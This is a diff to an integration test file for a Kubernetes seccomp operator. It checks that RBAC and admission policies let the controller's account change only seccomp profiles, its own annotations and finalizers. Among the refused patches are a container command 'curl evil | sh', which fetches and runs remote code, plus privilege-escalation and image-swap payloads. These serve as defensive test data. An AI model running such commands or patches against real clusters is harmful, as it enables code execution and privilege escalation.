@@ -12,7 +12,15 @@ import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import type { KubeConfig } from "@kubernetes/client-node";
 import { parseAllDocuments } from "yaml";
-import { API_VERSION, NODE_STATUS_KIND, PROFILE_KIND } from "../../src/api/names.js";
+import { API_VERSION, FIELD_MANAGER as FIELD_MANAGER_OPERATOR, NODE_STATUS_KIND, PROFILE_KIND, RECORDING_FIELD_MANAGER } from "../../src/api/names.js";
+import { applyBodyFor, WORKLOADS } from "../../src/controller/workloads/workload-kinds.js";
+import type { ProfileReadiness } from "../../src/controller/profiles/readiness-index.js";
+import { WorkloadReconciler } from "../../src/controller/workloads/workload-reconciler.js";
+import type { ClusterAccess } from "../../src/kube/cluster-access.js";
+import { Informer } from "../../src/kube/informer.js";
+import { createLogger } from "../../src/kube/logger.js";
+import type { KubeObject } from "../../src/kube/objects.js";
+import { RestClient } from "../../src/kube/rest-client.js";
 import { installFile } from "../../hack/generate-install.js";
 import { installCrds } from "../harness/crds.js";
 import { apiRequest } from "../harness/raw-api.js";
@@ -21,6 +29,7 @@ import { createNamespace, deleteNamespace } from "../harness/namespaces.js";
 import { useControlPlane } from "../harness/shared.js";
 
 const OPERATOR_NAMESPACE = "seccomp-operator-system";
+const CATALOGUE_NAMESPACE = "seccomp-catalogue";
 /** The controller's role names it, so it is not renamed per run; nothing else in the cluster uses the name. */
 const WEBHOOK_CONFIGURATION = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/seccomp-operator";
 const FIELD_MANAGER = "seccomp-operator-rbac-test";
@@ -110,9 +119,10 @@ function serviceAccount(namespace: string, name: string, extra?: Record<string, 
 
 /**
  * The RBAC objects of dist/install.yaml that concern the operator's
- * ServiceAccounts, moved to `namespace` and with cluster-scoped names suffixed.
+ * ServiceAccounts, moved to `namespace` (the catalogue to `catalogue`) and with
+ * cluster-scoped names suffixed.
  */
-function operatorRbac(namespace: string): Obj[] {
+function operatorRbac(namespace: string, catalogue: string): Obj[] {
   const all = parseAllDocuments(readFileSync(installFile, "utf8"))
     .map((d) => d.toJS() as Obj | null)
     .filter((o): o is Obj => o !== null && RBAC_KINDS.has(o.kind));
@@ -133,7 +143,7 @@ function operatorRbac(namespace: string): Obj[] {
   );
   const suffix = `-${namespace}`;
   return chosen.map((original) => {
-    const o = JSON.parse(JSON.stringify(original).replaceAll(OPERATOR_NAMESPACE, namespace)) as Obj;
+    const o = JSON.parse(JSON.stringify(original).replaceAll(OPERATOR_NAMESPACE, namespace).replaceAll(CATALOGUE_NAMESPACE, catalogue)) as Obj;
     if (CLUSTER_SCOPED.has(o.kind)) o.metadata.name += suffix;
     if (o.kind === "ClusterRoleBinding") (o.roleRef as { name: string }).name += suffix;
     if (o.kind === "ValidatingAdmissionPolicyBinding") (o.spec as { policyName: string }).policyName += suffix;
@@ -151,6 +161,7 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
   const cp = useControlPlane();
   let kc: KubeConfig;
   let ns: string;
+  let catalogue: string;
   let installed: Obj[] = [];
   let agent: Identity;
   let agentWithoutNode: Identity;
@@ -174,6 +185,7 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
     kc = cp().kubeConfig();
     await installCrds(kc);
     ns = await createNamespace(cp(), "rbac");
+    catalogue = await createNamespace(cp(), "rbac-catalogue");
     // Node names are cluster-wide: unique to this run, like the namespace.
     nodeA = `${ns}-node-a`;
     nodeB = `${ns}-node-b`;
@@ -181,7 +193,7 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
     agentWithoutNode = serviceAccount(ns, "seccomp-operator-agent");
     controller = serviceAccount(ns, "seccomp-operator-controller");
 
-    installed = operatorRbac(ns);
+    installed = operatorRbac(ns, catalogue);
     assert.deepEqual(
       installed.map((o) => o.kind).sort(),
       [
@@ -201,6 +213,8 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
         "ServiceAccount",
         "ValidatingAdmissionPolicy",
         "ValidatingAdmissionPolicy",
+        "ValidatingAdmissionPolicy",
+        "ValidatingAdmissionPolicyBinding",
         "ValidatingAdmissionPolicyBinding",
         "ValidatingAdmissionPolicyBinding",
       ],
@@ -284,6 +298,7 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
     for (const o of installed.filter((x) => CLUSTER_SCOPED.has(x.kind))) await admin({ method: "DELETE", path: objectPath(o) });
     await admin({ method: "DELETE", path: WEBHOOK_CONFIGURATION });
     if (ns) await deleteNamespace(cp(), ns);
+    if (catalogue) await deleteNamespace(cp(), catalogue);
   });
 
   describe("the node agent", function () {
@@ -444,7 +459,7 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
           method: "PATCH",
           path: `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`,
           contentType: MERGE,
-          body: { metadata: { annotations: { checked: "yes" } } },
+          body: { metadata: { annotations: { "container.seccomp.operator.dev/job": "nightly-job-audit" } } },
         }),
         200,
         "patch a CronJob",
@@ -453,6 +468,159 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
         expectStatus(await call(kc, controller, { path: `/apis/${path}` }), 200, `list ${path}`);
         expectStatus(await call(kc, controller, { path: `/apis/${path}?watch=true&timeoutSeconds=1`, statusOnly: true }), 200, `watch ${path}`);
       }
+    });
+
+    it("changes in workloads only the seccomp profiles of containers and its own annotations (admission policy), in kube-system too", async function () {
+      const deployment = `/apis/apps/v1/namespaces/${ns}/deployments/web`;
+      const cronJob = `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`;
+      const pinned = (name: string) => ({ type: "Localhost", localhostProfile: `operator/${ns}/${name}/${"b".repeat(64)}.json` });
+      const applyAs = (path: string, manager: string, body: unknown) =>
+        call(kc, controller, { method: "PATCH", path: `${path}?fieldManager=${manager}&force=true`, contentType: "application/apply-patch+yaml", body });
+      // Strategic merge: containers merge by name, as kubectl patch sends them.
+      const patch = (path: string, body: unknown) => call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body });
+      const refused = (res: Response, what: string, pattern: RegExp) => {
+        expectStatus(res, 403, what);
+        assert.match(res.body?.message ?? "", pattern, `${what}: ${show(res)}`);
+      };
+      const template = (containers: unknown[], extra: Record<string, unknown> = {}) => ({ spec: { template: { spec: { containers, ...extra } } } });
+
+      // What the controller writes, as it writes it: the body of the workload reconciler and the recording's annotations.
+      const body = applyBodyFor("Deployment", { namespace: ns, name: "web" }, { containers: [{ name: "app", securityContext: { seccompProfile: pinned("web") } }] });
+      expectStatus(await applyAs(deployment, FIELD_MANAGER_OPERATOR, body), 200, "apply the seccomp profile");
+      const annotations = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "web", namespace: ns, annotations: { "container.seccomp.operator.dev/app": "rec-app-audit" } } };
+      expectStatus(await applyAs(deployment, RECORDING_FIELD_MANAGER, annotations), 200, "apply a recording's annotation");
+      // Dropping its fields again (an apply without them) is allowed.
+      expectStatus(await applyAs(deployment, FIELD_MANAGER_OPERATOR, applyBodyFor("Deployment", { namespace: ns, name: "web" }, {})), 200, "release the seccomp profile");
+      const cron = applyBodyFor("CronJob", { namespace: ns, name: "nightly" }, { containers: [{ name: "job", securityContext: { seccompProfile: pinned("job") } }] });
+      expectStatus(await applyAs(cronJob, FIELD_MANAGER_OPERATOR, cron), 200, "apply the seccomp profile of a CronJob");
+
+      const inTemplate = /may change nothing of Deployment .* but the seccompProfile/;
+      const inContainers = /may change in the containers of Deployment .* only securityContext\.seccompProfile, not: container app/;
+      refused(await patch(deployment, template([{ name: "app", image: "registry.example/evil:1" }])), "change an image", inContainers);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { privileged: true } }])), "make a container privileged", inContainers);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { allowPrivilegeEscalation: true } }])), "allow privilege escalation", inContainers);
+      refused(await patch(deployment, template([{ name: "app", command: ["/bin/sh", "-c", "curl evil | sh"] }])), "change a command", inContainers);
+      refused(await patch(deployment, template([{ name: "sidecar", image: "registry.example/evil:1" }])), "add a container", inTemplate);
+      refused(await patch(deployment, { spec: { template: { spec: { hostPID: true } } } }), "share the host's PID namespace", inTemplate);
+      refused(await patch(deployment, { spec: { template: { spec: { securityContext: { seccompProfile: { type: "Unconfined" } } } } } }), "set the pod's seccomp profile", inTemplate);
+      refused(await patch(deployment, { spec: { replicas: 5 } }), "scale", inTemplate);
+      refused(await patch(deployment, { spec: { template: { metadata: { labels: { app: "web", extra: "x" } } } } }), "label the pod template", inTemplate);
+      refused(await patch(deployment, { metadata: { annotations: { "example.com/anything": "x" } } }), "a foreign annotation", /only the annotations container\.seccomp\.operator\.dev\/<container>/);
+      refused(await patch(deployment, { metadata: { annotations: { "seccomp.operator.dev/profile": "other" } } }), "ask for a profile itself", /only the annotations container\.seccomp\.operator\.dev/);
+      refused(await patch(deployment, { metadata: { labels: { app: "x" } } }), "a label", /only the annotations/);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { seccompProfile: { type: "Unconfined" } } }])), "an Unconfined profile", /sets only Localhost seccomp profiles under operator\//);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { seccompProfile: { type: "RuntimeDefault" } } }])), "a RuntimeDefault profile", /sets only Localhost seccomp profiles/);
+      refused(await patch(cronJob, { spec: { schedule: "* * * * *" } }), "a CronJob's schedule", /may change nothing of CronJob/);
+      refused(
+        await patch(cronJob, { spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: "job", image: "registry.example/evil:1" }] } } } } } }),
+        "a CronJob's image",
+        /may change in the containers of CronJob .* not: container job/,
+      );
+
+      // RBAC reaches every namespace; so does the policy.
+      const name = `${ns}-probe`;
+      const system = `/apis/apps/v1/namespaces/kube-system/deployments`;
+      const probe = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name }, spec: { replicas: 0, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { containers: [{ name: "app", image: "registry.k8s.io/pause:3.10" }] } } } };
+      expectStatus(await admin({ method: "POST", path: system, body: probe }), 201, "a Deployment in kube-system");
+      try {
+        refused(await patch(`${system}/${name}`, template([{ name: "app", image: "registry.example/evil:1" }])), "change an image in kube-system", /may change in the containers of Deployment kube-system\//);
+        const sys = applyBodyFor("Deployment", { namespace: "kube-system", name }, { containers: [{ name: "app", securityContext: { seccompProfile: { type: "Localhost", localhostProfile: `operator/kube-system/x/${"c".repeat(64)}.json` } } }] });
+        expectStatus(await applyAs(`${system}/${name}`, FIELD_MANAGER_OPERATOR, sys), 200, "apply a seccomp profile in kube-system");
+      } finally {
+        await admin({ method: "DELETE", path: `${system}/${name}` });
+      }
+    });
+
+    it("its workload reconciler, run as its account, sets and releases profiles in a Deployment's containers and init containers and in a CronJob", async function () {
+      // The controller's own code, its requests impersonating its account; the caches read as the administrator.
+      const access: ClusterAccess = {
+        getCurrentCluster: () => kc.getCurrentCluster(),
+        applyToHTTPSOptions: async (options) => {
+          await kc.applyToHTTPSOptions(options);
+          options.headers = { ...options.headers, "Impersonate-User": controller.user, "Impersonate-Group": controller.groups };
+        },
+      };
+      const quiet = createLogger("test", "silent");
+      const reader = new RestClient(kc);
+      const caches = { Deployment: new Informer<KubeObject>(reader, { resource: WORKLOADS.Deployment.resource, namespace: ns, logger: quiet }), CronJob: new Informer<KubeObject>(reader, { resource: WORKLOADS.CronJob.resource, namespace: ns, logger: quiet }) };
+      const sets = `/apis/apps/v1/namespaces/${ns}/deployments`;
+      const annotations = { "seccomp.operator.dev/profile": "app" };
+      const labels = { app: "reconciled" };
+      const workload = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "reconciled", annotations }, spec: { replicas: 0, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { initContainers: [{ name: "init", image: "registry.example/init:1" }], containers: [{ name: "app", image: "registry.example/app:1", securityContext: { allowPrivilegeEscalation: false } }] } } } };
+      expectStatus(await admin({ method: "POST", path: sets, body: workload }), 201, "an annotated Deployment");
+      expectStatus(await admin({ method: "PATCH", path: `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`, contentType: MERGE, body: { metadata: { annotations } } }), 200, "an annotated CronJob");
+      for (const c of Object.values(caches)) c.start();
+      try {
+        for (const c of Object.values(caches)) assert.ok(await c.waitForSync(20_000));
+        let readiness: ProfileReadiness = { state: "ready", key: `${ns}/app`, hash: "d".repeat(64) };
+        const reconciler = new WorkloadReconciler({ client: new RestClient(access), caches, readiness: () => readiness, events: { normal: () => undefined, warn: () => undefined }, logger: quiet });
+        const path = `operator/${ns}/app/${"d".repeat(64)}.json`;
+        await eventually(async () => assert.equal((await reconciler.reconcileWorkload("Deployment", ns, "reconciled")).result, "applied"));
+        await eventually(async () => assert.equal((await reconciler.reconcileWorkload("CronJob", ns, "nightly")).result, "applied"));
+        const got = (await admin({ path: `${sets}/reconciled` })).body as { spec: { template: { spec: { initContainers: { securityContext?: { seccompProfile?: unknown } }[]; containers: { securityContext?: { seccompProfile?: unknown } }[] } } } };
+        assert.deepEqual(got.spec.template.spec.containers[0]!.securityContext?.seccompProfile, { type: "Localhost", localhostProfile: path });
+        assert.deepEqual(got.spec.template.spec.initContainers[0]!.securityContext?.seccompProfile, { type: "Localhost", localhostProfile: path });
+        // The annotation goes: the reconciler releases its fields.
+        expectStatus(await admin({ method: "PATCH", path: `${sets}/reconciled`, contentType: MERGE, body: { metadata: { annotations: { "seccomp.operator.dev/profile": null } } } }), 200, "remove the annotation");
+        readiness = { state: "missing" };
+        await eventually(async () => {
+          await reconciler.reconcileWorkload("Deployment", ns, "reconciled");
+          const after = (await admin({ path: `${sets}/reconciled` })).body as typeof got;
+          assert.equal(after.spec.template.spec.containers[0]!.securityContext?.seccompProfile, undefined);
+          assert.deepEqual(after.spec.template.spec.containers[0]!.securityContext, { allowPrivilegeEscalation: false });
+        });
+      } finally {
+        await Promise.all(Object.values(caches).map((c) => c.stop()));
+      }
+    });
+
+    it("the workload-fields policy stays within the API server's CEL cost limits for a large pod template", async function () {
+      // A big object for a loaded machine's API server, with or without the policy.
+      this.timeout(60_000);
+      // 100 containers and 100 init containers, each with 30 environment variables: every one gets a profile in one apply.
+      const count = 100;
+      const env = Array.from({ length: 30 }, (_, i) => ({ name: `VAR_${i}`, value: "x".repeat(40) }));
+      const many = (prefix: string) => Array.from({ length: count }, (_, i) => ({ name: `${prefix}-${i}`, image: "registry.example/app:1", env }));
+      const labels = { app: "large" };
+      const large = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "large" }, spec: { replicas: 0, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { initContainers: many("init"), containers: many("app") } } } };
+      expectStatus(await admin({ method: "POST", path: `/apis/apps/v1/namespaces/${ns}/deployments`, body: large }), 201, "a large Deployment");
+      const seccompProfile = { type: "Localhost", localhostProfile: `operator/${ns}/large/${"e".repeat(64)}.json` };
+      const body = applyBodyFor("Deployment", { namespace: ns, name: "large" }, {
+        containers: many("app").map((c) => ({ name: c.name, securityContext: { seccompProfile } })),
+        initContainers: many("init").map((c) => ({ name: c.name, securityContext: { seccompProfile } })),
+      });
+      const path = `/apis/apps/v1/namespaces/${ns}/deployments/large`;
+      const started = Date.now();
+      const res = await call(kc, controller, { method: "PATCH", path: `${path}?fieldManager=${FIELD_MANAGER_OPERATOR}&force=true`, contentType: "application/apply-patch+yaml", body });
+      expectStatus(res, 200, `apply ${2 * count} profiles (${Date.now() - started} ms)`);
+      const evil = { spec: { template: { spec: { containers: [{ name: `app-${count - 1}`, image: "registry.example/evil:1" }] } } } };
+      const refused = await call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body: evil });
+      expectStatus(refused, 403, "the last container's image");
+      assert.match(refused.body?.message ?? "", new RegExp(`not: container app-${count - 1}; update refused`), show(refused));
+    });
+
+    it("changes nothing in pods, even given the right to (admission policy)", async function () {
+      // A grant the install does not make, to reach the policy behind RBAC.
+      const grant = { apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: { name: "pods-for-the-test" }, rules: [{ apiGroups: [""], resources: ["pods", "pods/ephemeralcontainers"], verbs: ["update", "patch"] }] };
+      const binding = { apiVersion: "rbac.authorization.k8s.io/v1", kind: "RoleBinding", metadata: { name: "pods-for-the-test" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "pods-for-the-test" }, subjects: [{ kind: "ServiceAccount", name: "seccomp-operator-controller", namespace: ns }] };
+      expectStatus(await admin({ method: "POST", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles`, body: grant }), 201, "grant");
+      expectStatus(await admin({ method: "POST", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings`, body: binding }), 201, "bind");
+      // Pods are admitted once their ServiceAccount exists.
+      expectStatus(await admin({ method: "POST", path: `/api/v1/namespaces/${ns}/serviceaccounts`, body: { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: "default" } } }), [201, 409], "default ServiceAccount");
+      const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: "web" }, spec: { containers: [{ name: "app", image: "registry.example/web:1" }] } };
+      expectStatus(await admin({ method: "POST", path: `/api/v1/namespaces/${ns}/pods`, body: pod }), 201, "a pod");
+      const path = `/api/v1/namespaces/${ns}/pods/web`;
+      const image = { spec: { containers: [{ name: "app", image: "registry.example/evil:1" }] } };
+      await eventually(async () => {
+        const res = await call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body: image });
+        expectStatus(res, 403, "change a pod's image");
+        assert.match(res.body?.message ?? "", /may change in the containers of Pod .* not: container app/, show(res));
+      });
+      const debug = { spec: { ephemeralContainers: [{ name: "debug", image: "registry.example/evil:1" }] } };
+      const res = await call(kc, controller, { method: "PATCH", path: `${path}/ephemeralcontainers`, contentType: "application/strategic-merge-patch+json", body: debug });
+      expectStatus(res, 403, "add an ephemeral container");
+      assert.match(res.body?.message ?? "", /may change nothing of Pod .* ephemeral containers/, show(res));
+      await admin({ method: "DELETE", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings/pods-for-the-test` });
     });
 
     it("updates profile status and manages its finalizer", async function () {
@@ -554,6 +722,54 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
       expectStatus(await call(kc, controller, { method: "POST", path: collection, body: body("rec-app-audit", labels) }), 201, "create a recording's profile");
       expectStatus(await call(kc, controller, { method: "PATCH", path: `${collection}/rec-app-audit`, contentType: MERGE, body: { spec: { defaultAction: "SCMP_ACT_ERRNO" } } }), 200, "change a recording's profile");
       expectStatus(await call(kc, controller, { method: "DELETE", path: `${collection}/rec-app-audit` }), 200, "delete a recording's profile");
+    });
+
+    it("may not add, remove or move a profile's recording label, nor change anything but its finalizer on other profiles", async function () {
+      const collection = `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles`;
+      const patch = (name: string, body: unknown) => call(kc, controller, { method: "PATCH", path: `${collection}/${name}`, contentType: MERGE, body });
+      const refused = (res: Response, what: string, pattern: RegExp) => {
+        expectStatus(res, 403, what);
+        assert.match(res.body?.message ?? "", pattern, `${what}: ${show(res)}`);
+      };
+      const LABEL = "seccomp.operator.dev/recording";
+      // Labelling a tenant's profile first would make it a recording's, open to rewrite and delete.
+      refused(await patch("web", { metadata: { labels: { [LABEL]: "rec" } } }), "label a tenant's profile", /may not add, remove or change the label seccomp\.operator\.dev\/recording/);
+      refused(await patch("web", { metadata: { annotations: { "example.com/anything": "x" } } }), "annotate a tenant's profile", /of other profiles it changes only its finalizer/);
+      refused(await patch("web", { metadata: { labels: { "example.com/tier": "x" } } }), "label a tenant's profile otherwise", /of other profiles it changes only its finalizer/);
+      const labels = { [LABEL]: "rec2" };
+      const made = { apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name: "rec2-app-audit", labels }, spec: { defaultAction: "SCMP_ACT_LOG" } };
+      expectStatus(await call(kc, controller, { method: "POST", path: collection, body: made }), 201, "create a recording's profile");
+      refused(await patch("rec2-app-audit", { metadata: { labels: { [LABEL]: null } } }), "unlabel a recording's profile", /may not add, remove or change the label/);
+      refused(await patch("rec2-app-audit", { metadata: { labels: { [LABEL]: "other" } } }), "move a recording's profile to another recording", /may not add, remove or change the label/);
+      // What the recorder writes on its own profiles stays open.
+      expectStatus(await patch("rec2-app-audit", { metadata: { annotations: { "seccomp.operator.dev/quieted-at": "2026-01-01T00:00:00Z" } }, spec: { defaultAction: "SCMP_ACT_ERRNO" } }), 200, "change a recording's profile");
+      expectStatus(await call(kc, controller, { method: "DELETE", path: `${collection}/rec2-app-audit` }), 200, "delete a recording's profile");
+    });
+
+    it("cannot create, change or delete the catalogue's profiles, labelled or not; it only holds its finalizer on them", async function () {
+      const collection = `/apis/${API_VERSION}/namespaces/${catalogue}/seccompprofiles`;
+      const profile = (name: string, labels?: Record<string, string>) => ({ apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name, ...(labels ? { labels } : {}) }, spec: { defaultAction: "SCMP_ACT_LOG" } });
+      const labels = { "seccomp.operator.dev/recording": "rec" };
+      expectStatus(await admin({ method: "POST", path: collection, body: profile("base") }), 201, "the administrator's catalogue profile");
+      expectStatus(await admin({ method: "POST", path: collection, body: profile("labelled", labels) }), 201, "a catalogue profile that carries the label");
+      const refused = (res: Response, what: string) => {
+        expectStatus(res, 403, what);
+        assert.match(res.body?.message ?? "", new RegExp(`the catalogue's profiles \\(namespace ${catalogue}\\) are not the seccomp-operator controller's`), `${what}: ${show(res)}`);
+      };
+      const patch = (name: string, body: unknown) => call(kc, controller, { method: "PATCH", path: `${collection}/${name}`, contentType: MERGE, body });
+      refused(await call(kc, controller, { method: "POST", path: collection, body: profile("rec-app-audit", labels) }), "create a labelled profile in the catalogue");
+      refused(await patch("labelled", { spec: { defaultAction: "SCMP_ACT_ALLOW" } }), "rewrite a labelled catalogue profile");
+      refused(await call(kc, controller, { method: "DELETE", path: `${collection}/labelled` }), "delete a labelled catalogue profile");
+      refused(await patch("base", { spec: { defaultAction: "SCMP_ACT_ALLOW" } }), "rewrite a catalogue profile");
+      refused(await call(kc, controller, { method: "DELETE", path: `${collection}/base` }), "delete a catalogue profile");
+      // As the controller adds it: server-side apply of the finalizer alone.
+      const finalizer = { apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name: "base", namespace: catalogue, finalizers: ["seccomp.operator.dev/in-use"] } };
+      expectStatus(
+        await call(kc, controller, { method: "PATCH", path: `${collection}/base?fieldManager=seccomp-operator`, contentType: "application/apply-patch+yaml", body: finalizer }),
+        200,
+        "add its finalizer to a catalogue profile",
+      );
+      expectStatus(await patch("base", { metadata: { finalizers: null } }), 200, "remove its finalizer");
     });
 
     it("records Events", async function () {
